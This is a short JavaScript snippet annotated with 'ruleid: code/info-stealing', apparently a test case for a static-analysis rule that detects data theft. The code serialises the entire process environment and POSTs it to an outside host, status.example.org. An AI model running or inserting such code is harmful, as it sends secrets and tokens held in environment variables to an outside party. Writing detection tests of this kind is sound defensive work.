const https = require('https');
const body = JSON.stringify(process.env);
// ruleid: code/info-stealing
const req = https.request({ hostname: 'status.example.org', path: '/v1', method: 'POST' });
// ruleid: code/info-stealing
req.end(body);
